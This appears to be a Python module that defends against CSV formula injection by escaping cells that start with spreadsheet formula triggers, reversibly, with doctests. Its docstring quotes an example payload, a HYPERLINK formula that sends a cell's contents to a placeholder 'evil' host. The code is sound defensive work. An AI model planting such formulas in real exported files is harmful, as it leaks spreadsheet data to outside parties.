"""CSV cells a spreadsheet would run as a formula ("CSV injection"), neutralised reversibly.

Why: an item text or critique written by someone else, such as ``=HYPERLINK("http://evil/?"&A1, "click")``, becomes a
live formula when an exported CSV is opened in Excel, LibreOffice or Google Sheets. OWASP's recommendation
(https://owasp.org/www-community/attacks/CSV_Injection) is followed: a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading apostrophe (``'=HYPERLINK(...)``), which
spreadsheets show as text; the csv module quotes cells that need it.

So that judgekit's own import gives back exactly what was exported, a cell that already begins with apostrophes
followed by one of those characters (``'=x``, ``''-1``) gets one more apostrophe, and the CSV import removes one
apostrophe from exactly the cells of that shape. Every string survives export -> import unchanged (property-tested).
A cell like ``'Tis`` (an apostrophe not followed by a trigger) is left alone both ways. Numbers are written as
numbers (``-0.5`` stays ``-0.5``); only text is escaped. JSONL exports need none of this.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def _triggers(text: str) -> bool:
    """Whether ``text``, once its leading apostrophes are set aside, begins with a formula trigger."""
    return text.lstrip("'")[:1] in FORMULA_TRIGGERS and text.lstrip("'") != ""


def escape_formula(text: str) -> str:
    """The CSV cell for ``text``: one apostrophe more when a spreadsheet could run it.

    >>> escape_formula('=HYPERLINK("http://x")'), escape_formula("-1"), escape_formula("'Tis"), escape_formula("a=b")
    ('\\'=HYPERLINK("http://x")', "'-1", "'Tis", 'a=b')
    """
    return "'" + text if _triggers(text) else text


def unescape_formula(cell: str) -> str:
    """The text a CSV cell written by :func:`escape_formula` holds (other cells are returned as they are).

    >>> unescape_formula("'=1+1"), unescape_formula("''=1"), unescape_formula("'Tis"), unescape_formula("=1")
    ('=1+1', "'=1", "'Tis", '=1')
    """
    return cell[1:] if cell.startswith("'") and _triggers(cell[1:]) else cell
